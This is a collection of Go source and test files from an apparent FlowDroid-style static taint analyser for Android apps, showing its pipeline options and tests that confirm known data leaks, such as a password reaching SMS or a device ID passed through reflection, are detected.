	if res.Lint.HasErrors() {
		t.Errorf("leakage app should be lint-clean, got %v", res.Lint.Diagnostics)
	}
	if len(res.Leaks()) == 0 {
		t.Error("lint-gated run lost the leak")
	}
	if st := res.Passes["verify"]; st.Runs != 1 {
		t.Errorf("verify pass runs = %d, want 1", st.Runs)
	}
}

func TestLintOffByDefault(t *testing.T) {
	res, err := AnalyzeFiles(context.Background(), testapps.LeakageApp, DefaultOptions())
	if err != nil {
		t.Fatal(err)
	}
	if res.Lint != nil {
		t.Error("lint ran without Options.Lint")
	}
	if st := res.Passes["verify"]; st.Runs != 0 {
		t.Error("verify pass ran without Options.Lint")
	}
}

func TestLintVerifyMemoized(t *testing.T) {
	app, err := apk.LoadFiles(testapps.LeakageApp)
	if err != nil {
		t.Fatal(err)
	}
	opts := DefaultOptions()
	opts.Lint = true
	pl := newPipeline(app)
	if _, err := pl.run(context.Background(), opts); err != nil {
		t.Fatal(err)
	}
	res, err := pl.run(context.Background(), opts)
	if err != nil {
		t.Fatal(err)
	}
	if st := res.Passes["verify"]; st.Runs != 1 || st.Hits != 1 {
		t.Errorf("verify runs/hits = %d/%d, want 1/1 (memoized second attempt)", st.Runs, st.Hits)
	}
	// Changing the analyzer selection invalidates the memo key.
	opts.LintDisable = "typecheck"
	res, err = pl.run(context.Background(), opts)
	if err != nil {
		t.Fatal(err)
	}
	if st := res.Passes["verify"]; st.Runs != 2 {
		t.Errorf("verify runs = %d, want 2 after key change", st.Runs)
	}
}

func TestLintUnknownAnalyzerIsError(t *testing.T) {
	opts := DefaultOptions()
	opts.Lint = true
	opts.LintEnable = "nosuchanalyzer"
	_, err := AnalyzeFiles(context.Background(), testapps.LeakageApp, opts)
	if err == nil || !strings.Contains(err.Error(), "nosuchanalyzer") {
		t.Fatalf("expected unknown-analyzer error, got %v", err)
	}
}
