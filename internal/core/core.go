// Package core wires the full FlowDroid pipeline of Figure 4: load the
// app package (manifest, layout XMLs, code), detect entry points, sources
// and sinks, generate the dummy main method, build the call graph and
// interprocedural CFG, and run the bidirectional taint analysis.
package core

import (
	"fmt"
	"io/fs"
	"time"

	"flowdroid/internal/apk"
	"flowdroid/internal/callbacks"
	"flowdroid/internal/callgraph"
	"flowdroid/internal/cfg"
	"flowdroid/internal/framework"
	"flowdroid/internal/ir"
	"flowdroid/internal/irtext"
	"flowdroid/internal/lifecycle"
	"flowdroid/internal/pta"
	"flowdroid/internal/sourcesink"
	"flowdroid/internal/taint"
)

// Options configures a pipeline run. The zero value is not useful; start
// from DefaultOptions.
type Options struct {
	// Taint configures the taint engine.
	Taint taint.Config
	// Lifecycle configures dummy-main generation.
	Lifecycle lifecycle.Options
	// SourceSinkRules optionally replaces the built-in source/sink
	// configuration (textual format of internal/sourcesink).
	SourceSinkRules string
	// UseCHA selects the class-hierarchy call graph instead of the
	// points-to-refined one (faster, less precise).
	UseCHA bool
}

// DefaultOptions mirrors the paper's FlowDroid configuration.
func DefaultOptions() Options {
	return Options{
		Taint:     taint.DefaultConfig(),
		Lifecycle: lifecycle.DefaultOptions(),
	}
}

// Result is the outcome of a full pipeline run.
type Result struct {
	App        *apk.App
	EntryPoint *ir.Method
	Callbacks  *callbacks.Result
	CallGraph  *callgraph.Graph
	Taint      *taint.Results

	// Timings per pipeline stage.
	SetupTime time.Duration
	TaintTime time.Duration
}

// Leaks returns the distinct (source, sink) leaks found.
func (r *Result) Leaks() []*taint.Leak { return r.Taint.DistinctSourceSinkPairs() }

// AnalyzeApp runs the pipeline on an already loaded app.
func AnalyzeApp(app *apk.App, opts Options) (*Result, error) {
	start := time.Now()

	cbs := callbacks.Discover(app)
	entry, err := lifecycle.Generate(app, cbs, opts.Lifecycle)
	if err != nil {
		return nil, fmt.Errorf("core: %w", err)
	}

	var graph *callgraph.Graph
	if opts.UseCHA {
		graph = callgraph.BuildCHA(app.Program, entry)
	} else {
		graph = pta.Build(app.Program, entry).Graph
	}
	icfg := cfg.NewICFG(app.Program, graph)

	mgr, err := manager(app.Program, opts)
	if err != nil {
		return nil, err
	}
	mgr.AttachApp(app)

	setup := time.Since(start)
	tstart := time.Now()
	res := taint.Analyze(icfg, mgr, opts.Taint, entry)

	return &Result{
		App:        app,
		EntryPoint: entry,
		Callbacks:  cbs,
		CallGraph:  graph,
		Taint:      res,
		SetupTime:  setup,
		TaintTime:  time.Since(tstart),
	}, nil
}

func manager(prog *ir.Program, opts Options) (*sourcesink.Manager, error) {
	if opts.SourceSinkRules == "" {
		return sourcesink.Default(prog), nil
	}
	mgr, err := sourcesink.Parse(prog, opts.SourceSinkRules)
	if err != nil {
		return nil, fmt.Errorf("core: %w", err)
	}
	return mgr, nil
}

// AnalyzeFiles loads an in-memory app package and runs the pipeline.
func AnalyzeFiles(files map[string]string, opts Options) (*Result, error) {
	app, err := apk.LoadFiles(files)
	if err != nil {
		return nil, err
	}
	return AnalyzeApp(app, opts)
}

// AnalyzeDir loads an app package from a directory and runs the pipeline.
func AnalyzeDir(dir string, opts Options) (*Result, error) {
	app, err := apk.LoadDir(dir)
	if err != nil {
		return nil, err
	}
	return AnalyzeApp(app, opts)
}

// AnalyzeZip loads an app package from a zip archive and runs the
// pipeline.
func AnalyzeZip(path string, opts Options) (*Result, error) {
	app, err := apk.LoadZip(path)
	if err != nil {
		return nil, err
	}
	return AnalyzeApp(app, opts)
}

// AnalyzeFS loads an app package from any fs.FS and runs the pipeline.
func AnalyzeFS(fsys fs.FS, opts Options) (*Result, error) {
	app, err := apk.Load(fsys)
	if err != nil {
		return nil, err
	}
	return AnalyzeApp(app, opts)
}

// AnalyzeJava runs the taint analysis on a plain Java-style program (no
// Android lifecycle): custom entry points, custom source/sink rules. This
// is the SecuriBench Micro use case of RQ4.
func AnalyzeJava(prog *ir.Program, rules string, conf taint.Config, entries ...*ir.Method) (*taint.Results, error) {
	mgr, err := sourcesink.Parse(prog, rules)
	if err != nil {
		return nil, err
	}
	graph := pta.Build(prog, entries...).Graph
	icfg := cfg.NewICFG(prog, graph)
	return taint.Analyze(icfg, mgr, conf, entries...), nil
}

// ParseJava builds a linked plain-Java program (framework stubs plus the
// given IR source) for AnalyzeJava callers: the entry point for analyzing
// non-Android code such as the SecuriBench Micro suite.
func ParseJava(src, filename string) (*ir.Program, error) {
	prog := framework.NewProgram()
	if err := irtext.ParseInto(prog, src, filename); err != nil {
		return nil, err
	}
	return prog, prog.Link()
}
