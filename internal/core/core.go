// Package core wires the full FlowDroid pipeline of Figure 4: load the
// app package (manifest, layout XMLs, code), detect entry points, sources
// and sinks, generate the dummy main method, build the call graph and
// interprocedural CFG, and run the bidirectional taint analysis.
//
// Every entry point is bounded: the context's deadline and the options'
// propagation budget cut a runaway analysis short, and a panicking stage
// is recovered into an explained result. A run therefore always returns
// either a load error or a Result whose Status says how far it got.
package core

import (
	"context"
	"fmt"
	"io/fs"
	"time"

	"flowdroid/internal/apk"
	"flowdroid/internal/callbacks"
	"flowdroid/internal/callgraph"
	"flowdroid/internal/cfg"
	"flowdroid/internal/framework"
	"flowdroid/internal/ir"
	"flowdroid/internal/irtext"
	"flowdroid/internal/lifecycle"
	"flowdroid/internal/pta"
	"flowdroid/internal/sourcesink"
	"flowdroid/internal/taint"
)

// Options configures a pipeline run. The zero value is not useful; start
// from DefaultOptions.
type Options struct {
	// Taint configures the taint engine.
	Taint taint.Config
	// Lifecycle configures dummy-main generation.
	Lifecycle lifecycle.Options
	// SourceSinkRules optionally replaces the built-in source/sink
	// configuration (textual format of internal/sourcesink).
	SourceSinkRules string
	// UseCHA selects the class-hierarchy call graph instead of the
	// points-to-refined one (faster, less precise).
	UseCHA bool
	// MaxPropagations bounds the taint solver's attempted propagations;
	// 0 is unlimited. Exhausting the budget yields Status ==
	// BudgetExhausted with the partial leak set.
	MaxPropagations int
	// Degrade enables the graceful-degradation ladder: when the
	// propagation budget runs out and the context still has time, the
	// analysis is retried with cheaper configurations (CHA call graph,
	// then access-path length 3, then 1), recording each downgrade in
	// Result.Degraded.
	Degrade bool
}

// DefaultOptions mirrors the paper's FlowDroid configuration.
func DefaultOptions() Options {
	return Options{
		Taint:     taint.DefaultConfig(),
		Lifecycle: lifecycle.DefaultOptions(),
	}
}

// Result is the outcome of a full pipeline run.
type Result struct {
	App        *apk.App
	EntryPoint *ir.Method
	Callbacks  *callbacks.Result
	CallGraph  *callgraph.Graph
	Taint      *taint.Results

	// Status says whether the run completed or how it was cut short.
	// Fields above are populated up to the stage that was reached; Taint
	// is never nil.
	Status Status
	// Failure carries the panic a Recovered run was cut short by.
	Failure *Failure
	// Degraded lists the degradation-ladder rungs applied before this
	// result was produced (empty for a first-attempt result).
	Degraded []string
	// Counters are the per-stage effort counters, partial on truncation.
	Counters Counters

	// Timings per pipeline stage.
	SetupTime time.Duration
	TaintTime time.Duration
}

// Leaks returns the distinct (source, sink) leaks found.
func (r *Result) Leaks() []*taint.Leak { return r.Taint.DistinctSourceSinkPairs() }

// AnalyzeApp runs the pipeline on an already loaded app. The context
// bounds the whole run: on expiry the current stage stops cleanly and the
// partial result is returned with Status == DeadlineExceeded. A panic in
// any stage is recovered into Status == Recovered. Load and
// configuration problems are still reported as ordinary errors.
func AnalyzeApp(ctx context.Context, app *apk.App, opts Options) (*Result, error) {
	if ctx == nil {
		ctx = context.Background()
	}
	res, err := analyzeOnce(ctx, app, opts)
	if err != nil || !opts.Degrade {
		return res, err
	}
	// Graceful degradation: a budget-exhausted attempt is retried down
	// the ladder while the context still has time. (A deadline overrun
	// cannot be retried — the clock is already spent.)
	var degraded []string
	for _, step := range degradeLadder(opts) {
		if res.Status != BudgetExhausted || ctx.Err() != nil {
			break
		}
		step.apply(&opts)
		next, err := analyzeOnce(ctx, app, opts)
		if err != nil {
			break // keep the best partial result we have
		}
		degraded = append(degraded, step.name)
		res = next
	}
	res.Degraded = degraded
	return res, nil
}

// analyzeOnce is one pipeline attempt under one configuration. Panics in
// any stage are converted into a Recovered result carrying the stages
// that finished before the panic.
func analyzeOnce(ctx context.Context, app *apk.App, opts Options) (res *Result, err error) {
	start := time.Now()
	res = &Result{App: app, Status: Complete, Taint: &taint.Results{}}
	stage := "callbacks"
	defer func() {
		if r := recover(); r != nil {
			res.Status = Recovered
			res.Failure = &Failure{Stage: stage, Value: r, Stack: stackTrace()}
			res.SetupTime = time.Since(start)
			err = nil
		}
	}()
	truncated := func() *Result {
		res.Status = DeadlineExceeded
		res.SetupTime = time.Since(start)
		return res
	}

	cbs := callbacks.Discover(ctx, app)
	res.Callbacks = cbs
	if ctx.Err() != nil {
		return truncated(), nil
	}

	stage = "lifecycle"
	// A degradation retry analyzes the same loaded app again; the dummy
	// main is already registered in its program and the lifecycle options
	// never change between rungs, so reuse it instead of regenerating.
	var entry *ir.Method
	if c := app.Program.Class(lifecycle.DummyMainClass); c != nil {
		entry = c.Method("dummyMain", 0)
	}
	if entry == nil {
		entry, err = lifecycle.Generate(app, cbs, opts.Lifecycle)
		if err != nil {
			return nil, fmt.Errorf("core: %w", err)
		}
	}
	res.EntryPoint = entry

	stage = "callgraph"
	var graph *callgraph.Graph
	if opts.UseCHA {
		graph = callgraph.BuildCHA(ctx, app.Program, entry)
	} else {
		ptaRes := pta.Build(ctx, app.Program, entry)
		graph = ptaRes.Graph
		res.Counters.PTAPropagations = ptaRes.Propagations
	}
	res.CallGraph = graph
	res.Counters.CallGraphEdges = graph.NumEdges()
	if ctx.Err() != nil {
		return truncated(), nil
	}

	stage = "icfg"
	icfg := cfg.NewICFG(app.Program, graph)

	stage = "sourcesink"
	mgr, err := manager(app.Program, opts)
	if err != nil {
		return nil, err
	}
	mgr.AttachApp(app)

	res.SetupTime = time.Since(start)
	tstart := time.Now()

	stage = "taint"
	tc := opts.Taint
	if opts.MaxPropagations > 0 {
		tc.MaxPropagations = opts.MaxPropagations
	}
	tres := taint.Analyze(ctx, icfg, mgr, tc, entry)
	res.Taint = tres
	res.TaintTime = time.Since(tstart)
	countersFromTaint(&res.Counters, tres.Stats)
	switch tres.Status {
	case taint.Cancelled:
		res.Status = DeadlineExceeded
	case taint.BudgetExhausted:
		res.Status = BudgetExhausted
	}
	return res, nil
}

func manager(prog *ir.Program, opts Options) (*sourcesink.Manager, error) {
	if opts.SourceSinkRules == "" {
		return sourcesink.Default(prog), nil
	}
	mgr, err := sourcesink.Parse(prog, opts.SourceSinkRules)
	if err != nil {
		return nil, fmt.Errorf("core: %w", err)
	}
	return mgr, nil
}

// AnalyzeFiles loads an in-memory app package and runs the pipeline.
func AnalyzeFiles(ctx context.Context, files map[string]string, opts Options) (*Result, error) {
	app, err := apk.LoadFiles(files)
	if err != nil {
		return nil, err
	}
	return AnalyzeApp(ctx, app, opts)
}

// AnalyzeDir loads an app package from a directory and runs the pipeline.
func AnalyzeDir(ctx context.Context, dir string, opts Options) (*Result, error) {
	app, err := apk.LoadDir(dir)
	if err != nil {
		return nil, err
	}
	return AnalyzeApp(ctx, app, opts)
}

// AnalyzeZip loads an app package from a zip archive and runs the
// pipeline.
func AnalyzeZip(ctx context.Context, path string, opts Options) (*Result, error) {
	app, err := apk.LoadZip(path)
	if err != nil {
		return nil, err
	}
	return AnalyzeApp(ctx, app, opts)
}

// AnalyzeFS loads an app package from any fs.FS and runs the pipeline.
func AnalyzeFS(ctx context.Context, fsys fs.FS, opts Options) (*Result, error) {
	app, err := apk.Load(fsys)
	if err != nil {
		return nil, err
	}
	return AnalyzeApp(ctx, app, opts)
}

// AnalyzeJava runs the taint analysis on a plain Java-style program (no
// Android lifecycle): custom entry points, custom source/sink rules. This
// is the SecuriBench Micro use case of RQ4. The context bounds the run
// the same way AnalyzeApp's does.
func AnalyzeJava(ctx context.Context, prog *ir.Program, rules string, conf taint.Config, entries ...*ir.Method) (*taint.Results, error) {
	if ctx == nil {
		ctx = context.Background()
	}
	mgr, err := sourcesink.Parse(prog, rules)
	if err != nil {
		return nil, err
	}
	graph := pta.Build(ctx, prog, entries...).Graph
	icfg := cfg.NewICFG(prog, graph)
	return taint.Analyze(ctx, icfg, mgr, conf, entries...), nil
}

// ParseJava builds a linked plain-Java program (framework stubs plus the
// given IR source) for AnalyzeJava callers: the entry point for analyzing
// non-Android code such as the SecuriBench Micro suite.
func ParseJava(src, filename string) (*ir.Program, error) {
	prog := framework.NewProgram()
	if err := irtext.ParseInto(prog, src, filename); err != nil {
		return nil, err
	}
	return prog, prog.Link()
}
