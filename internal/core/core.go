// Package core wires the full FlowDroid pipeline of Figure 4: load the
// app package (manifest, layout XMLs, code), detect entry points, sources
// and sinks, generate the dummy main method, build the call graph and
// interprocedural CFG, and run the bidirectional taint analysis.
//
// Every entry point is bounded: the context's deadline and the options'
// propagation budget cut a runaway analysis short, and a panicking stage
// is recovered into an explained result. A run therefore always returns
// either a load error or a Result whose Status says how far it got.
package core

import (
	"context"
	"fmt"
	"io/fs"
	"time"

	"flowdroid/internal/apk"
	"flowdroid/internal/callbacks"
	"flowdroid/internal/callgraph"
	"flowdroid/internal/cfg"
	"flowdroid/internal/cone"
	"flowdroid/internal/constprop"
	"flowdroid/internal/framework"
	"flowdroid/internal/ir"
	"flowdroid/internal/irlint"
	"flowdroid/internal/irtext"
	"flowdroid/internal/lifecycle"
	"flowdroid/internal/pta"
	"flowdroid/internal/scene"
	"flowdroid/internal/sourcesink"
	"flowdroid/internal/summarystore"
	"flowdroid/internal/taint"
)

// Options configures a pipeline run. The zero value is not useful; start
// from DefaultOptions.
type Options struct {
	// Taint configures the taint engine.
	Taint taint.Config
	// Lifecycle configures dummy-main generation.
	Lifecycle lifecycle.Options
	// SourceSinkRules optionally replaces the built-in source/sink
	// configuration (textual format of internal/sourcesink).
	SourceSinkRules string
	// Query restricts the analysis to the selected sink rules (demand-
	// driven mode). The zero value analyzes every configured sink. A
	// query-mode run's canonical report is byte-identical to the
	// whole-program report filtered to the queried sinks; it gets there
	// faster by modeling only components inside the sinks' reachability
	// cone and pruning exploration at the cone boundary.
	Query Query
	// Lint runs the IR verifier (internal/irlint) between the front-end
	// and the solvers. Error-severity diagnostics abort the run with
	// Status == InvalidProgram before any solver executes; warnings are
	// reported in Result.Lint and counted in Result.Counters.
	Lint bool
	// LintEnable/LintDisable are comma-separated analyzer name lists
	// narrowing the verifier (empty LintEnable means all analyzers).
	LintEnable  string
	LintDisable string
	// UseCHA selects the class-hierarchy call graph instead of the
	// points-to-refined one (faster, less precise).
	UseCHA bool
	// ResolveReflection runs the interprocedural constant-string
	// propagation pass (internal/constprop) between scene construction
	// and call-graph building: reflective call sites whose class and
	// method names resolve to a bounded constant set become real call
	// edges (through synthesized bridge methods), and every unresolvable
	// site is recorded in Result.Soundness. Default on; -no-reflection
	// on the CLIs turns it off, restoring the pre-reflection pipeline
	// byte for byte.
	ResolveReflection bool
	// MaxPropagations bounds the taint solver's attempted propagations;
	// 0 is unlimited. Exhausting the budget yields Status ==
	// BudgetExhausted with the partial leak set.
	MaxPropagations int
	// Degrade enables the graceful-degradation ladder: when the
	// propagation budget runs out and the context still has time, the
	// analysis is retried with cheaper configurations (CHA call graph,
	// then access-path length 3, then 1), recording each downgrade in
	// Result.Degraded.
	Degrade bool
	// SummaryDir, when non-empty, enables the persistent method-summary
	// store rooted at that directory (see internal/summarystore): the
	// taint solver replays summaries recorded by earlier completed runs
	// for methods whose bodies and resolved callees are unchanged, and
	// persists fresh ones after a completed run. The store never changes
	// the leak report — only how much of it is recomputed. Corrupt or
	// stale entries are treated as cache misses, never errors.
	SummaryDir string
	// SummaryStore is an already opened summary store to use instead of
	// opening SummaryDir; a resident daemon shares one store across jobs
	// this way. When nil and SummaryDir is set, AnalyzeApp opens the
	// directory itself.
	SummaryStore *summarystore.Store
}

// DefaultOptions mirrors the paper's FlowDroid configuration.
func DefaultOptions() Options {
	return Options{
		Taint:             taint.DefaultConfig(),
		Lifecycle:         lifecycle.DefaultOptions(),
		ResolveReflection: true,
	}
}

// SoundnessReport is the constant-propagation pass's account of the
// reflective surface: resolved site count plus every site left opaque
// with its reason. See internal/constprop.
type SoundnessReport = constprop.SoundnessReport

// UnresolvedSite is one reflective call the analysis left opaque.
type UnresolvedSite = constprop.UnresolvedSite

// Result is the outcome of a full pipeline run.
type Result struct {
	App        *apk.App
	EntryPoint *ir.Method
	Callbacks  *callbacks.Result
	CallGraph  *callgraph.Graph
	Taint      *taint.Results

	// Status says whether the run completed or how it was cut short.
	// Fields above are populated up to the stage that was reached; Taint
	// is never nil.
	Status Status
	// Failure carries the panic a Recovered run was cut short by.
	Failure *Failure
	// Lint holds the IR verifier's diagnostics when Options.Lint is set
	// (nil otherwise). Status == InvalidProgram iff it has errors.
	Lint *irlint.Result
	// Soundness reports what the reflection resolution pass could and
	// could not see through (nil when Options.ResolveReflection is off or
	// the pass was never reached). A leak report is only as complete as
	// this report's Unresolved list is empty.
	Soundness *SoundnessReport
	// Degraded lists the degradation-ladder rungs applied before this
	// result was produced (empty for a first-attempt result).
	Degraded []string
	// Counters are the per-stage effort counters, partial on truncation.
	Counters Counters
	// Passes records, per pipeline pass, how often it executed versus
	// reused its memoized artifact across this run (including any
	// degradation retries).
	Passes PassStats

	// Timings per pipeline stage.
	SetupTime time.Duration
	TaintTime time.Duration
	// PassTimes is the wall time each pass spent actually building its
	// artifact across this run (memo hits cost nothing and add nothing).
	// The corpus harness aggregates these into its slowest-pass table.
	PassTimes map[string]time.Duration
}

// Leaks returns the distinct (source, sink) leaks found.
func (r *Result) Leaks() []*taint.Leak { return r.Taint.DistinctSourceSinkPairs() }

// AnalyzeApp runs the pipeline on an already loaded app. The context
// bounds the whole run: on expiry the current stage stops cleanly and the
// partial result is returned with Status == DeadlineExceeded. A panic in
// any stage is recovered into Status == Recovered. Load and
// configuration problems are still reported as ordinary errors.
//
// The run is driven through one memoizing pipeline: the degradation
// ladder re-executes only the passes each rung actually invalidates (the
// CHA rung rebuilds call graph and ICFG; access-path-length rungs re-run
// taint alone), which Result.Passes makes observable.
func AnalyzeApp(ctx context.Context, app *apk.App, opts Options) (*Result, error) {
	if ctx == nil {
		ctx = context.Background()
	}
	if opts.SummaryStore == nil && opts.SummaryDir != "" {
		opts.SummaryStore = summarystore.Open(opts.SummaryDir)
	}
	pl := newPipeline(app)
	res, err := pl.run(ctx, opts)
	if err != nil || !opts.Degrade {
		return res, err
	}
	// Graceful degradation: a budget-exhausted attempt is retried down
	// the ladder while the context still has time. (A deadline overrun
	// cannot be retried — the clock is already spent.)
	var degraded []string
	for _, step := range degradeLadder(opts) {
		if res.Status != BudgetExhausted || ctx.Err() != nil {
			break
		}
		step.apply(&opts)
		next, err := pl.run(ctx, opts)
		if err != nil {
			break // keep the best partial result we have
		}
		degraded = append(degraded, step.name)
		res = next
	}
	res.Degraded = degraded
	res.Passes = pl.snapshot()
	return res, nil
}

func manager(prog ir.Hierarchy, opts Options) (*sourcesink.Manager, error) {
	if opts.SourceSinkRules == "" {
		return sourcesink.Default(prog), nil
	}
	mgr, err := sourcesink.Parse(prog, opts.SourceSinkRules)
	if err != nil {
		return nil, fmt.Errorf("core: %w", err)
	}
	return mgr, nil
}

// AnalyzeFiles loads an in-memory app package and runs the pipeline.
func AnalyzeFiles(ctx context.Context, files map[string]string, opts Options) (*Result, error) {
	app, err := apk.LoadFiles(files)
	if err != nil {
		return nil, err
	}
	return AnalyzeApp(ctx, app, opts)
}

// AnalyzeDir loads an app package from a directory and runs the pipeline.
func AnalyzeDir(ctx context.Context, dir string, opts Options) (*Result, error) {
	app, err := apk.LoadDir(dir)
	if err != nil {
		return nil, err
	}
	return AnalyzeApp(ctx, app, opts)
}

// AnalyzeZip loads an app package from a zip archive and runs the
// pipeline.
func AnalyzeZip(ctx context.Context, path string, opts Options) (*Result, error) {
	app, err := apk.LoadZip(path)
	if err != nil {
		return nil, err
	}
	return AnalyzeApp(ctx, app, opts)
}

// AnalyzeFS loads an app package from any fs.FS and runs the pipeline.
func AnalyzeFS(ctx context.Context, fsys fs.FS, opts Options) (*Result, error) {
	app, err := apk.Load(fsys)
	if err != nil {
		return nil, err
	}
	return AnalyzeApp(ctx, app, opts)
}

// AnalyzeJava runs the taint analysis on a plain Java-style program (no
// Android lifecycle): custom entry points, custom source/sink rules. This
// is the SecuriBench Micro use case of RQ4. The context bounds the run
// the same way AnalyzeApp's does.
func AnalyzeJava(ctx context.Context, prog *ir.Program, rules string, conf taint.Config, entries ...*ir.Method) (*taint.Results, error) {
	return AnalyzeJavaQuery(ctx, prog, rules, conf, Query{}, entries...)
}

// AnalyzeJavaQuery is AnalyzeJava restricted to a sink query: only the
// selected sink rules report leaks, and the solver prunes exploration
// outside their reachability cone. An empty query analyzes every sink.
func AnalyzeJavaQuery(ctx context.Context, prog *ir.Program, rules string, conf taint.Config, q Query, entries ...*ir.Method) (*taint.Results, error) {
	if ctx == nil {
		ctx = context.Background()
	}
	sc := scene.New(prog)
	mgr, err := sourcesink.Parse(sc, rules)
	if err != nil {
		return nil, err
	}
	if !q.IsAll() {
		if err := mgr.RestrictSinks(q.Sinks); err != nil {
			return nil, fmt.Errorf("core: %w", err)
		}
		cn := cone.Build(ctx, sc, mgr)
		if ctx.Err() == nil {
			conf.Cone = &taint.Cone{Relevant: cn.Relevant, Methods: cn.Methods()}
		}
	}
	graph := pta.Build(ctx, sc, entries...).Graph
	icfg := cfg.NewICFG(sc, graph)
	return taint.Analyze(ctx, icfg, mgr, conf, entries...), nil
}

// ParseJava builds a linked plain-Java program (framework stubs plus the
// given IR source) for AnalyzeJava callers: the entry point for analyzing
// non-Android code such as the SecuriBench Micro suite.
func ParseJava(src, filename string) (*ir.Program, error) {
	prog := framework.NewProgram()
	if err := irtext.ParseInto(prog, src, filename); err != nil {
		return nil, err
	}
	return prog, prog.Link()
}
