package core

import (
	"context"
	"strings"
	"testing"

	"flowdroid/internal/taint"
	"flowdroid/internal/testapps"
)

// TestLeakageAppEndToEnd runs the whole pipeline on the paper's Listing 1
// example: the password field read in onRestart must be reported as
// flowing into sendTextMessage, which requires the lifecycle model, XML
// callback wiring, layout sources, field sensitivity and the alias
// analysis all working together.
func TestLeakageAppEndToEnd(t *testing.T) {
	res, err := AnalyzeFiles(context.Background(), testapps.LeakageApp, DefaultOptions())
	if err != nil {
		t.Fatal(err)
	}
	leaks := res.Leaks()
	if len(leaks) != 1 {
		for _, l := range leaks {
			t.Logf("leak: %v", l)
		}
		t.Fatalf("leaks = %d, want exactly 1", len(leaks))
	}
	l := leaks[0]
	if l.Source().Source.Label != "password-field" {
		t.Errorf("source label = %q, want password-field", l.Source().Source.Label)
	}
	if l.SinkSpec.Label != "sms" {
		t.Errorf("sink label = %q, want sms", l.SinkSpec.Label)
	}
	if !strings.Contains(l.Sink.String(), "sendTextMessage") {
		t.Errorf("sink stmt = %v", l.Sink)
	}
	// The path must pass through the User object's pwd field chain.
	path := l.Path()
	if len(path) < 3 {
		t.Errorf("reconstructed path too short: %v", path)
	}
}

// TestLeakageAppUsernameNotLeaked checks field sensitivity end to end:
// only the password half of the User object is a source; the username
// flows to the same sink but must not be reported.
func TestLeakageAppUsernameNotLeaked(t *testing.T) {
	res, err := AnalyzeFiles(context.Background(), testapps.LeakageApp, DefaultOptions())
	if err != nil {
		t.Fatal(err)
	}
	for _, l := range res.Leaks() {
		if l.Source().Source.Label != "password-field" {
			t.Errorf("unexpected source: %v", l)
		}
	}
}

// TestLifecycleUnawareMisses shows why the lifecycle model matters: with
// a lifecycle-unaware dummy main (onCreate only), onRestart never runs
// and the leak disappears — the under-approximation of coarse tools.
func TestLifecycleUnawareMisses(t *testing.T) {
	opts := DefaultOptions()
	opts.Lifecycle.ModelLifecycle = false
	res, err := AnalyzeFiles(context.Background(), testapps.LeakageApp, opts)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Leaks()) != 0 {
		t.Errorf("lifecycle-unaware run should miss the onRestart leak, got %v", res.Leaks())
	}
}

// TestLocationCallback exercises imperative callback registration plus
// callback-parameter sources end to end.
func TestLocationCallback(t *testing.T) {
	res, err := AnalyzeFiles(context.Background(), testapps.LocationApp, DefaultOptions())
	if err != nil {
		t.Fatal(err)
	}
	leaks := res.Leaks()
	found := false
	for _, l := range leaks {
		if l.Source().Source.Label == "location-callback" && l.SinkSpec.Label == "log" {
			found = true
		}
	}
	if !found {
		t.Errorf("location-callback -> log leak not found; leaks: %v", leaks)
	}
}

func TestCHAModeStillFindsLeak(t *testing.T) {
	opts := DefaultOptions()
	opts.UseCHA = true
	res, err := AnalyzeFiles(context.Background(), testapps.LeakageApp, opts)
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Leaks()) == 0 {
		t.Error("CHA mode should still find the leak")
	}
}

func TestCustomRules(t *testing.T) {
	opts := DefaultOptions()
	// With an empty-but-valid rule set nothing is a source, so no leaks.
	opts.SourceSinkRules = "# nothing\n"
	res, err := AnalyzeFiles(context.Background(), testapps.LeakageApp, opts)
	if err != nil {
		t.Fatal(err)
	}
	// The password layout source remains (it is layout-derived, not rule
	// derived), but its sink rules are gone, so nothing can be reported.
	if len(res.Leaks()) != 0 {
		t.Errorf("no sinks configured but leaks reported: %v", res.Leaks())
	}
}

func TestResultMetadata(t *testing.T) {
	res, err := AnalyzeFiles(context.Background(), testapps.LeakageApp, DefaultOptions())
	if err != nil {
		t.Fatal(err)
	}
	if res.EntryPoint == nil || res.EntryPoint.Name != "dummyMain" {
		t.Error("entry point missing")
	}
	if res.CallGraph.NumEdges() == 0 {
		t.Error("empty call graph")
	}
	if res.Callbacks.Total() == 0 {
		t.Error("no callbacks discovered")
	}
	if res.SetupTime <= 0 || res.TaintTime <= 0 {
		t.Error("timings not recorded")
	}
	if res.Taint.Stats.ForwardEdges == 0 {
		t.Error("no forward edges recorded")
	}
}

func TestAnalyzeJava(t *testing.T) {
	// SecuriBench-style use: plain Java program, custom rules.
	prog, err := ParseJava(`
class S {
  static method src(): java.lang.String;
  static method snk(x: java.lang.String): void;
}
class Main {
  static method main(): void {
    a = S.src()
    S.snk(a)
    return
  }
}
`, "t.ir")
	if err != nil {
		t.Fatal(err)
	}
	res, err := AnalyzeJava(context.Background(), prog,
		"source <S: src/0> -> return\nsink <S: snk/1> -> arg0\n",
		taint.DefaultConfig(),
		prog.Class("Main").Method("main", 0))
	if err != nil {
		t.Fatal(err)
	}
	if len(res.DistinctSourceSinkPairs()) != 1 {
		t.Errorf("java-mode leaks = %d, want 1", len(res.DistinctSourceSinkPairs()))
	}
}
