package core

import (
	"context"
	"testing"

	"flowdroid/internal/apk"
	"flowdroid/internal/constprop"
	"flowdroid/internal/testapps"
)

// TestReflectiveLeakEndToEnd is the tentpole acceptance test: a leak
// routed through Class.forName("...").newInstance() plus
// getMethod("leak").invoke(obj, imei) — all names string constants — is
// found with reflection resolution on and vanishes with it off, without
// any taint-solver changes (the flow travels through synthesized bridge
// methods as ordinary call edges).
func TestReflectiveLeakEndToEnd(t *testing.T) {
	res, err := AnalyzeFiles(context.Background(), testapps.ReflectionApp, DefaultOptions())
	if err != nil {
		t.Fatal(err)
	}
	leaks := res.Leaks()
	found := false
	for _, l := range leaks {
		if l.Source().Source.Label == "device-id" && l.SinkSpec.Label == "log" {
			found = true
		}
	}
	if !found {
		t.Errorf("device-id -> log leak through reflection not found; leaks: %v", leaks)
	}
	if res.Soundness == nil {
		t.Fatal("Soundness report missing with reflection resolution on")
	}
	// forName, newInstance, getMethod and invoke each count as a resolved
	// site; nothing is opaque in this app.
	if res.Soundness.ResolvedSites < 3 {
		t.Errorf("resolved sites = %d, want >= 3", res.Soundness.ResolvedSites)
	}
	if len(res.Soundness.Unresolved) != 0 {
		t.Errorf("unexpected unresolved sites: %v", res.Soundness.Unresolved)
	}
	if res.Counters.ReflectionResolved != res.Soundness.ResolvedSites {
